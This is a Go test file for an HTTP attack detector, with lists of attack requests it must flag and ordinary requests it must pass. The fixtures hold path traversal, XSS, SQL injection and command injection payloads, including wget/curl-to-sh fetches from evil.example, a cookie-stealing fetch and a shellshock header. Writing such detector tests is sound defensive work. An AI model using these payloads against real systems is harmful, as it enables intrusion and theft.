package security

import (
	"bufio"
	"net/http"
	"strings"
	"testing"
)

// attack is a request that must be detected.
type attack struct {
	name     string
	target   string
	header   map[string]string
	category string
}

var attacks = []attack{
	// Path traversal, plain and encoded.
	{"dotdot in path", "/api/v1/../../etc/passwd", nil, CategoryPathTraversal},
	{"encoded dots", "/static/%2e%2e/%2e%2e/config.yaml", nil, CategoryPathTraversal},
	{"mixed encoding", "/static/.%2e/.%2E/config.yaml", nil, CategoryPathTraversal},
	{"encoded slash", "/files/..%2f..%2fconfig.yaml", nil, CategoryPathTraversal},
	{"double encoding", "/files/%252e%252e%252fsecret", nil, CategoryPathTraversal},
	{"triple encoding", "/files/%25252e%25252e%25252fsecret", nil, CategoryPathTraversal},
	{"backslash", "/files/..%5c..%5cwindows", nil, CategoryPathTraversal},
	{"overlong utf-8", "/files/%c0%ae%c0%ae%c0%afsecret", nil, CategoryPathTraversal},
	// Go's server refuses invalid escapes such as %u in paths (400); in
	// query strings they reach the detector.
	{"iis unicode", "/download?f=%u002e%u002e%u2215secret", nil, CategoryPathTraversal},
	{"tomcat path parameter", "/app/..;/manager/html", nil, CategoryPathTraversal},
	{"trailing dotdot", "/api/v1/databases/..", nil, CategoryPathTraversal},
	{"in query", "/api/v1/export?file=../../../../var/lib/photondb", nil, CategoryPathTraversal},
	{"in query encoded", "/api/v1/export?file=%2e%2e%2f%2e%2e%2fdata", nil, CategoryPathTraversal},
	{"target file", "/api/v1/export?file=/etc/shadow", nil, CategoryPathTraversal},
	{"windows target", "/download?f=C:%5cboot.ini", nil, CategoryPathTraversal},
	{"nul byte", "/api/v1/databases/shop%00.json", nil, CategoryPathTraversal},
	{"in referer", "/api/v1/status", map[string]string{"Referer": "http://example.com/../../etc/passwd"}, CategoryPathTraversal},

	// XSS.
	{"script tag", "/search?q=<script>alert(1)</script>", nil, CategoryXSS},
	{"encoded script", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", nil, CategoryXSS},
	{"double encoded script", "/search?q=%253Cscript%253Ealert(1)", nil, CategoryXSS},
	{"upper case", "/search?q=%3CSCRIPT%20SRC%3D//evil.example/x.js%3E", nil, CategoryXSS},
	{"closing tag", "/search?q=x%3C/script%3E", nil, CategoryXSS},
	{"img onerror", `/search?q="><img%20src=x%20onerror=alert(1)>`, nil, CategoryXSS},
	{"svg onload", "/search?q=%3Csvg/onload=alert(1)%3E", nil, CategoryXSS},
	{"handler only", "/search?q=%22%20onmouseover%3D%22alert(1)", nil, CategoryXSS},
	{"javascript url", "/login?next=javascript:alert(document.domain)", nil, CategoryXSS},
	{"javascript url with tab", "/login?next=java%09script:alert(1)", nil, CategoryXSS},
	{"data url", "/login?next=data:text/html;base64,PHNjcmlwdD4=", nil, CategoryXSS},
	{"html entity", "/search?q=%26lt%3Bscript%26gt%3Balert(1)", nil, CategoryXSS},
	{"js escape", `/search?q=\u003cscript\u003e`, nil, CategoryXSS},
	{"fullwidth", "/search?q=%EF%BC%9Cscript%EF%BC%9E", nil, CategoryXSS},
	{"in path", "/api/v1/databases/%3Cscript%3Ealert(1)%3C%2Fscript%3E/tables", nil, CategoryXSS},
	{"in user agent", "/api/v1/status", map[string]string{"User-Agent": "<script>alert(1)</script>"}, CategoryXSS},
	{"document.cookie", "/x?cb=fetch('//evil/'%2Bdocument.cookie)", nil, CategoryXSS},
	{"in query name", "/search?%3Cscript%3E=1", nil, CategoryXSS},

	// SQL injection.
	{"tautology", "/api/v1/databases?name=%27%20OR%20%271%27%3D%271", nil, CategorySQLInjection},
	{"tautology plus-encoded", "/api/v1/users?id=1%27+OR+%271%27%3D%271", nil, CategorySQLInjection},
	{"tautology raw", "/api/v1/users?id=1'OR'1'='1", nil, CategorySQLInjection},
	{"tautology double quotes", `/api/v1/users?id=x"%20or%20""="`, nil, CategorySQLInjection},
	{"tautology double encoded", "/api/v1/users?id=%2527%2520OR%2520%25271%2527%253D%25271", nil, CategorySQLInjection},
	{"tautology with comments", "/api/v1/users?id=1'/**/or/**/1=1", nil, CategorySQLInjection},
	{"numeric tautology", "/api/v1/users?id=1%20or%201%3D1", nil, CategorySQLInjection},
	{"union select", "/api/v1/users?id=1%20UNION%20SELECT%20username,password%20FROM%20users", nil, CategorySQLInjection},
	{"union all select", "/api/v1/users?id=1+union+all+select+null,null", nil, CategorySQLInjection},
	{"union with comments", "/api/v1/users?id=1/**/UNION/**/SELECT/**/1", nil, CategorySQLInjection},
	{"union mysql versioned", "/api/v1/users?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%201", nil, CategorySQLInjection},
	{"drop table", "/api/v1/users?name=x%27%3B%20DROP%20TABLE%20users%3B%20--", nil, CategorySQLInjection},
	{"stacked delete", "/api/v1/users?name=1;delete%20from%20users", nil, CategorySQLInjection},
	{"comment", "/login?user=admin%27--", nil, CategorySQLInjection},
	{"comment with space", "/login?user=admin%27%20--%20", nil, CategorySQLInjection},
	{"hash comment", "/login?user=admin%27%23", nil, CategorySQLInjection},
	{"time based", "/api/v1/users?id=1%20AND%20SLEEP(5)", nil, CategorySQLInjection},
	{"waitfor", "/api/v1/users?id=1;waitfor%20delay%20%270:0:5%27", nil, CategorySQLInjection},
	{"information schema", "/api/v1/users?id=(select%20table_name%20from%20information_schema.tables)", nil, CategorySQLInjection},
	{"in path", "/api/v1/databases/x%27%20OR%20%271%27%3D%271/tables", nil, CategorySQLInjection},
	{"in cookie", "/api/v1/status", map[string]string{"Cookie": "session=x' OR 1=1--"}, CategorySQLInjection},
	{"in x-forwarded-for", "/api/v1/status", map[string]string{"X-Forwarded-For": "1' or '1'='1"}, CategorySQLInjection},

	// Command injection.
	{"semicolon cat", "/api/v1/ping?host=127.0.0.1;cat%20/etc/passwd", nil, CategoryCommandInjection},
	{"encoded semicolon", "/api/v1/ping?host=127.0.0.1%3Bcat+/etc/passwd", nil, CategoryCommandInjection},
	{"pipe id", "/api/v1/ping?host=127.0.0.1|id", nil, CategoryCommandInjection},
	{"or-or", "/api/v1/ping?host=x||whoami", nil, CategoryCommandInjection},
	{"and-and encoded", "/api/v1/ping?host=x%26%26whoami", nil, CategoryCommandInjection},
	{"background", "/api/v1/ping?host=x%26%20ping%20-c%2010%20evil.example", nil, CategoryCommandInjection},
	{"subshell wget", "/api/v1/ping?host=$(wget%20http://evil.example/x.sh)", nil, CategoryCommandInjection},
	{"backticks", "/api/v1/ping?host=%60id%60", nil, CategoryCommandInjection},
	{"newline curl", "/api/v1/ping?host=x%0Acurl%20http://evil.example", nil, CategoryCommandInjection},
	{"bin path", "/api/v1/ping?host=x;/bin/sh%20-i", nil, CategoryCommandInjection},
	{"ifs", "/api/v1/ping?host=x;cat${IFS}/etc/passwd", nil, CategoryCommandInjection},
	{"double encoded", "/api/v1/ping?host=x%253Bwget%2520evil", nil, CategoryCommandInjection},
	{"in path", "/cgi-bin/x;wget%20http:%2f%2fevil.example%2fx", nil, CategoryCommandInjection},
	{"shellshock", "/cgi-bin/status", map[string]string{"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}, CategoryCommandInjection},
	{"in header", "/api/v1/status", map[string]string{"X-Api-Version": "1; curl http://evil.example/x | sh"}, CategoryCommandInjection},
}

// benign is a request that must pass.
type benign struct {
	name   string
	method string
	target string
	header map[string]string
	body   string
}

// browserHeaders are what a browser sends with a fetch from a web console.
var browserHeaders = map[string]string{
	"User-Agent":         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Accept":             "application/json, text/plain, */*",
	"Accept-Language":    "en-US,en;q=0.9,de;q=0.8",
	"Accept-Encoding":    "gzip, deflate, br, zstd",
	"Sec-Ch-Ua":          `"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"`,
	"Sec-Ch-Ua-Mobile":   "?0",
	"Sec-Ch-Ua-Platform": `"Windows"`,
	"Sec-Fetch-Dest":     "empty",
	"Sec-Fetch-Mode":     "cors",
	"Sec-Fetch-Site":     "same-site",
	"Origin":             "https://console.example.com",
	"Referer":            "https://console.example.com/databases/shop?tab=tables&sort=name",
	"Cookie":             "session=Fe26.2**a1b2c3; theme=dark; id=5; consent=%7B%22ads%22%3Afalse%2C%22color%22%3A%22%23fff%22%7D",
	"Authorization":      "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
	"Traceparent":        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
	"Tracestate":         "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE",
	"Baggage":            "userId=alice,serverNode=DF%2028,isProduction=false",
}

var benigns = []benign{
	// REST traffic (paths from controlplane/api).
	{name: "list databases", target: "/api/v1/databases"},
	{name: "list databases page", target: "/api/v1/databases?limit=100&cursor=eyJpZCI6MX0"},
	{name: "documents page", target: "/api/v1/databases/shop/tables/users/documents?cursor=eyJpZCI6MX0&limit=100"},
	{name: "documents cursor with dashes", target: "/api/v1/databases/shop/tables/users/documents?cursor=ZXlKcFpDSTZNWDA--_x-1&limit=10"},
	{name: "documents cursor padded", target: "/api/v1/databases/shop/tables/users/documents?cursor=eyJpZCI6IjEwMCJ9%3D%3D"},
	{name: "get table", target: "/api/v1/databases/shop/tables/users"},
	{name: "odd names", target: "/api/v1/databases/my-db_2/tables/Users_2024-01"},
	{name: "indexes", target: "/api/v1/databases/shop/tables/users/indexes"},
	{name: "shards", target: "/api/v1/databases/shop/tables/users/shards"},
	{name: "nodes", target: "/api/v1/nodes"},
	{name: "drain", method: "POST", target: "/api/v1/nodes/node-1.eu-west-1/drain"},
	{name: "register node", method: "PUT", target: "/api/v1/nodes/dn-0", body: `{"addr":"10.0.0.5:28015","zone":"a"}`},
	{name: "tenants", target: "/api/v1/tenants/acme"},
	{name: "tokens", method: "DELETE", target: "/api/v1/tokens/tok_123--abc"},
	{name: "catalog long poll", target: "/api/v1/internal/catalog?after=42&wait=20s", header: map[string]string{"X-Photondb-Node": "dn-0"}},
	{name: "status", target: "/api/v1/status"},
	{name: "admin stats", target: "/api/v1/admin/stats"},
	{name: "all tables", target: "/api/tables"},
	{name: "force delete", method: "DELETE", target: "/api/v1/databases/shop?force=true"},
	{name: "openapi", target: "/openapi.json"},
	{name: "openapi yaml", target: "/openapi.yaml"},
	{name: "docs", target: "/docs"},
	{name: "schema", target: "/schemas/Database.json"},
	{name: "health", target: "/health/ready"},
	{name: "metrics", target: "/_metrics"},
	{name: "browser call", target: "/api/v1/databases?limit=20", header: browserHeaders},
	{name: "create with etag", method: "PATCH", target: "/api/v1/databases/shop/tables/users",
		header: map[string]string{"If-Match": `"12"`, "Content-Type": "application/json; charset=utf-8"}, body: `{"shards":2}`},
	{name: "weak etags", method: "DELETE", target: "/api/v1/databases/shop/tables/users",
		header: map[string]string{"If-Match": `W/"12", "13"`, "If-None-Match": `"abc-def"`}},
	{name: "tenant header", target: "/api/v1/databases", header: map[string]string{"X-Photondb-Tenant": "acme-corp"}},

	// Bodies are not inspected: a ReQL query may carry anything as data.
	{name: "reql with attack strings as data", method: "POST", target: "/api/query",
		header: map[string]string{"Content-Type": "application/json"},
		body:   `{"query":"r.table('users').filter(r.row('name').eq(\"' OR '1'='1\")).update({bio: '<script>alert(1)</script>'})","db":"shop"}`},
	{name: "reql with more attack strings", method: "POST", target: "/api/query",
		header: map[string]string{"Content-Type": "application/json"},
		body:   `{"query":"r.expr(['; DROP TABLE users; --', '../../etc/passwd', '$(cat /etc/passwd)', 'x UNION SELECT 1', '` + "`id`" + `'])"}`},
	{name: "insert documents", method: "POST", target: "/api/v1/databases/shop/tables/users/documents",
		header: map[string]string{"Content-Type": "application/json"},
		body:   `{"documents":[{"id":1,"html":"<img src=x onerror=alert(1)>","q":"1' or 1=1--"}]}`},

	// Query values that look a little like attacks but are not.
	{name: "apostrophe", target: "/api/v1/search?q=O%27Brien"},
	{name: "quoted words", target: "/api/v1/search?q=Rock%20%27n%27%20Roll"},
	{name: "it's", target: "/api/v1/search?q=it%27s+or+not"},
	{name: "prose dashes", target: "/api/v1/search?q=hello%20--%20world"},
	{name: "prose semicolon", target: "/api/v1/search?q=a;%20b;%20c"},
	{name: "words union select", target: "/api/v1/search?q=union+station+selected"},
	{name: "drop-down", target: "/api/v1/search?q=drop-down+menu"},
	{name: "comparison", target: "/api/v1/search?q=3+%3E+2"},
	{name: "sort descending", target: "/api/v1/databases?sort=-created_at"},
	{name: "range", target: "/api/v1/search?range=1..5&v=1.2.3"},
	{name: "ellipsis", target: "/api/v1/search?q=wait..."},
	{name: "email", target: "/api/v1/users?email=a%2Bb%40example.com"},
	{name: "filter", target: "/api/v1/users?filter=status%3Dactive"},
	{name: "hash tag", target: "/api/v1/search?tag=c%23"},
	{name: "color", target: "/api/v1/search?color=%23fff"},
	{name: "path value", target: "/api/v1/search?path=/docs/intro"},
	{name: "json value", target: `/api/v1/search?filter={"age":{"$gt":21},"tags":["a","b"]}`},
	{name: "math", target: "/api/v1/search?expr=(a+b)*c"},
	{name: "catalog cmd words", target: "/api/v1/search?q=cat+ls+id+curl"},
	{name: "semicolon param names", target: "/api/v1/search?q=a%3B+id%3D5"},

	// User agents and other headers.
	{name: "firefox", target: "/api/v1/status", header: map[string]string{"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"}},
	{name: "safari iphone", target: "/api/v1/status", header: map[string]string{"User-Agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"}},
	{name: "android webview", target: "/api/v1/status", header: map[string]string{"User-Agent": "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36"}},
	{name: "googlebot", target: "/api/v1/status", header: map[string]string{"User-Agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}},
	{name: "curl", target: "/api/v1/status", header: map[string]string{"User-Agent": "curl/8.5.0", "Accept": "*/*"}},
	{name: "go client", target: "/api/v1/status", header: map[string]string{"User-Agent": "Go-http-client/1.1"}},
	{name: "python", target: "/api/v1/status", header: map[string]string{"User-Agent": "python-requests/2.31.0"}},
	{name: "terraform", target: "/api/v1/status", header: map[string]string{"User-Agent": "Terraform/1.7.5 (+https://www.terraform.io) terraform-provider-photondb/0.1.0"}},
	{name: "grease brands", target: "/api/v1/status", header: map[string]string{"Sec-Ch-Ua": `"Not)A;Brand";v="8", "Chromium";v="138", " Not A;Brand";v="99", "Not/A)Brand";v="8"`}},
	{name: "basic auth", target: "/api/v1/status", header: map[string]string{"Authorization": "Basic YWRtaW46cGFzc3dvcmQ="}},
	{name: "api token", target: "/api/v1/status", header: map[string]string{"Authorization": "Bearer pdb_Ab3--x_Yz9-0"}},
	{name: "browser accept", target: "/docs", header: map[string]string{"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"}},
	{name: "forwarded", target: "/api/v1/status", header: map[string]string{"Forwarded": "for=192.0.2.60;proto=https;by=203.0.113.43", "X-Forwarded-For": "192.0.2.60, 198.51.100.1"}},
	{name: "websocket upgrade", target: "/api/v1/changes", header: map[string]string{"Sec-Websocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Sec-Websocket-Version": "13"}},
	{name: "request id", target: "/api/v1/status", header: map[string]string{"X-Request-Id": "3f2b9c1e-7d4a-4b8e-9a6f-0c1d2e3f4a5b", "Cache-Control": "no-cache"}},
}

// rawRequest parses a request as the server would receive it.
func rawRequest(t testing.TB, method, target string, header map[string]string) *http.Request {
	t.Helper()
	if method == "" {
		method = http.MethodGet
	}
	var b strings.Builder
	b.WriteString(method + " " + target + " HTTP/1.1\r\n")
	if _, ok := header["Host"]; !ok {
		b.WriteString("Host: photondb.example.com\r\n")
	}
	for k, v := range header {
		b.WriteString(k + ": " + v + "\r\n")
	}
	b.WriteString("\r\n")
	r, err := http.ReadRequest(bufio.NewReader(strings.NewReader(b.String())))
	if err != nil {
		t.Fatalf("parse %s %s: %v", method, target, err)
	}
	return r
}

func TestDetectorAttacks(t *testing.T) {
	d := NewDetector(DetectorOptions{})
	for _, tt := range attacks {
		t.Run(tt.category+"/"+tt.name, func(t *testing.T) {
			det, ok := d.Inspect(rawRequest(t, "GET", tt.target, tt.header))
			if !ok {
				t.Fatalf("%s %v: not detected", tt.target, tt.header)
			}
			if det.Category != tt.category {
				t.Errorf("category %q (rule %s at %s, value %q), want %q", det.Category, det.Rule, det.Location, det.Value, tt.category)
			}
			if det.Rule == "" || det.Location == "" {
				t.Errorf("detection without rule or location: %+v", det)
			}
		})
	}
}

func TestDetectorBenign(t *testing.T) {
	d := NewDetector(DetectorOptions{})
	for _, tt := range benigns {
		t.Run(tt.name, func(t *testing.T) {
			if det, ok := d.Inspect(rawRequest(t, tt.method, tt.target, tt.header)); ok {
				t.Errorf("false positive: %+v", det)
			}
		})
	}
}

func TestDetectorLocations(t *testing.T) {
	d := NewDetector(DetectorOptions{SkipHeaders: []string{"x-skipped"}})
	tests := []struct {
		target   string
		header   map[string]string
		location string
	}{
		{"/a/../b", nil, "path"},
		{"/a?file=../../x", nil, "query:file"},
		{"/a?%3Cscript%3E=1", nil, "query:<script>"},
		{"/a", map[string]string{"User-Agent": "x'; drop table t"}, "header:User-Agent"},
		{"/a", map[string]string{"Host": "x<script>"}, "host"},
		{"/a", map[string]string{"X-Skipped": "<script>"}, ""},
	}
	for _, tt := range tests {
		det, ok := d.Inspect(rawRequest(t, "GET", tt.target, tt.header))
		if tt.location == "" {
			if ok {
				t.Errorf("%s %v: skipped header inspected: %+v", tt.target, tt.header, det)
			}
			continue
		}
		if !ok || det.Location != tt.location {
			t.Errorf("%s %v: got %+v (detected %v), want location %q", tt.target, tt.header, det, ok, tt.location)
		}
	}
}

func TestNormalize(t *testing.T) {
	tests := []struct {
		in, want string
		plus     bool
	}{
		{"plain/path", "plain/path", false},
		{"%2e%2e%2F", "../", false},
		{"%252e%252e%252f", "../", false},
		{"%25252e", ".", false},
		{"a+b%2Bc", "a b c", true},
		{"a+b", "a+b", false},
		{"%zz%4", "%zz%4", false},
		{"%u002E%u002e", "..", false},
		{"%u00", "%u00", false},
		{"%c0%ae%c0%af", "./", false},
		{"%EF%BC%8E%EF%BC%8F", "./", false},
		{"&LT;SCRIPT", "<script", false},
		{"MiXeD", "mixed", false},
		// More encoding rounds than maxDecodeRounds stay partly encoded.
		{"%2525252525", "%25", false},
	}
	for _, tt := range tests {
		if got := normalize(tt.in, tt.plus); got != tt.want {
			t.Errorf("normalize(%q, %v) = %q, want %q", tt.in, tt.plus, got, tt.want)
		}
	}
}
